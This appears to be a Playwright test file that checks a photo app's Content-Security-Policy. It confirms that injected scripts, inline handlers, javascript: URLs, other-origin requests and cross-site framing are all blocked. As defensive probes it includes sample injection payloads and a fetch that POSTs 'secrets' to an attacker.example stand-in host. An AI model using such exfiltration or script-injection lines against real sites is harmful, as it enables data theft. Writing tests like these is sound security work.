import type { Page } from '@playwright/test';
import { acceptViolations, describeViolation, expect, test, type CspViolation } from './csp-test';

/**
 * Waits until the page has reported `expected`, then returns the distinct violations reported so far and
 * accepts the expected ones (reported again by another policy later, they do not fail the test).
 */
async function taken(violations: CspViolation[], expected: string[]): Promise<string[]> {
  const distinct = () => [...new Set(violations.map(describeViolation))].sort();
  await expect.poll(distinct).toEqual(expect.arrayContaining(expected));
  const seen = distinct();
  acceptViolations(violations, expected);
  return seen;
}

async function policies(page: Page): Promise<string[]> {
  return page.locator('meta[http-equiv="Content-Security-Policy"]').evaluateAll((metas) => metas.map((m) => m.getAttribute('content') ?? ''));
}

test('the built app carries a strict policy: injected scripts do not run, other origins are refused', async ({ page, cspViolations }) => {
  await page.goto('/');
  await expect(page.getByRole('heading', { name: 'No albums yet' })).toBeVisible();

  const [built, ...rest] = await policies(page);
  expect(built).toContain("script-src 'self' 'wasm-unsafe-eval';");
  expect(built).toContain("object-src 'none'");
  expect(built).toContain("base-uri 'none'");
  // On the local backend (no config.json) the app narrows connections to itself.
  expect(rest.some((p) => /connect-src 'self';/.test(p))).toBe(true);

  // An injected inline script, an inline handler and a javascript: URL never run.
  const ran = await page.evaluate(async () => {
    const w = window as unknown as { injected?: boolean; handler?: boolean; jsUrl?: boolean };
    const refused: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) => refused.push(e.effectiveDirective));
    const count = (directive: string) => refused.filter((d) => d === directive).length;
    const script = document.createElement('script');
    script.textContent = 'window.injected = true';
    document.body.append(script);
    const img = document.createElement('img');
    img.setAttribute('onerror', 'window.handler = true');
    // Listeners run in the order they were added: the inline handler's turn has come once this one runs.
    const failed = new Promise((resolve) => img.addEventListener('error', resolve));
    img.src = 'data:,not-an-image';
    document.body.append(img);
    const a = document.createElement('a');
    a.href = 'javascript:window.jsUrl = true';
    document.body.append(a);
    a.click();
    await failed;
    // Each policy refuses the handler once (script-src-attr), and the script and the javascript: URL once each
    // (script-src-elem): once both are counted, the URL's turn has come too.
    const deadline = performance.now() + 10_000;
    while (!(count('script-src-attr') > 0 && count('script-src-elem') === 2 * count('script-src-attr')) && performance.now() < deadline) {
      await new Promise((r) => requestAnimationFrame(r));
    }
    img.remove();
    a.remove();
    return { injected: w.injected === true, handler: w.handler === true, jsUrl: w.jsUrl === true };
  });
  expect(ran).toEqual({ injected: false, handler: false, jsUrl: false });

  // A connection and an image to an origin that is not the backend are refused before they leave.
  const fetched = await page.evaluate(async () => {
    const img = new Image();
    img.src = 'https://attacker.example/pixel.png';
    try {
      await fetch('https://attacker.example/steal', { method: 'POST', body: 'secrets' });
      return 'sent';
    } catch (e) {
      return (e as Error).name;
    }
  });
  expect(fetched).toBe('TypeError');

  const expected = ['connect-src https://attacker.example/steal', 'img-src https://attacker.example/pixel.png', 'script-src-attr inline', 'script-src-elem inline'];
  expect(await taken(cspViolations, expected)).toEqual(expected);
});

const PROJECT = 'https://demo-project.supabase.co';
const b64url = (o: object) => Buffer.from(JSON.stringify(o)).toString('base64url');
const ANON_KEY = `${b64url({ alg: 'HS256', typ: 'JWT' })}.${b64url({ role: 'anon', iss: 'supabase' })}.c2ln`;

test('with config.json naming a Supabase project, the page reaches that project and nothing else', async ({ page, cspViolations }) => {
  await page.route('**/config.json', (route) => route.fulfill({ json: { supabaseUrl: PROJECT, supabaseAnonKey: ANON_KEY } }));
  const cors = { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*', 'access-control-allow-methods': '*' };
  await page.route(`${PROJECT}/**`, (route) => route.fulfill({ status: route.request().method() === 'OPTIONS' ? 204 : 200, headers: cors, json: {} }));
  await page.goto('/');
  await expect(page.getByRole('heading', { name: 'Sign in to Shoebox' })).toBeVisible();

  const narrowed = (await policies(page)).at(-1) ?? '';
  expect(narrowed).toContain(`connect-src 'self' ${PROJECT} wss://demo-project.supabase.co;`);

  const results = await page.evaluate(async (project) => {
    const attempt = (url: string) => fetch(url).then(() => 'ok', (e: Error) => e.name);
    return {
      project: await attempt(`${project}/auth/v1/health`),
      otherProject: await attempt('https://other-project.supabase.co/auth/v1/health'),
      plainHttp: await attempt('http://demo-project.supabase.co/auth/v1/health'),
    };
  }, PROJECT);
  expect(results).toEqual({ project: 'ok', otherProject: 'TypeError', plainHttp: 'TypeError' });
  const expected = ['connect-src http://demo-project.supabase.co/auth/v1/health', 'connect-src https://other-project.supabase.co/auth/v1/health'];
  expect(await taken(cspViolations, expected)).toEqual(expected);
});

test('served as a static host serves dist/: the policy comes as a header too, and no other site can frame the app', async ({ page, baseURL }) => {
  const response = await page.goto('/');
  const header = (await response?.allHeaders())?.['content-security-policy'] ?? '';
  expect(header).toContain("frame-ancestors 'none'");
  expect(header).toContain("script-src 'self' 'wasm-unsafe-eval'");
  expect((await response?.allHeaders())?.['x-content-type-options']).toBe('nosniff');

  // A page of another site puts the app in a frame: the browser refuses to show it there.
  await page.route('https://elsewhere.example/', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<!doctype html><title>Elsewhere</title><iframe id="app" src="${baseURL}/"></iframe>` }));
  await page.goto('https://elsewhere.example/');
  // Chromium puts its error page in the frame instead (without the header, the frame is the app's own URL).
  await expect.poll(() => page.frames().find((f) => f !== page.mainFrame())?.url()).toBe('chrome-error://chromewebdata/');
  await expect(page.frameLocator('#app').locator('#root')).toHaveCount(0);
});
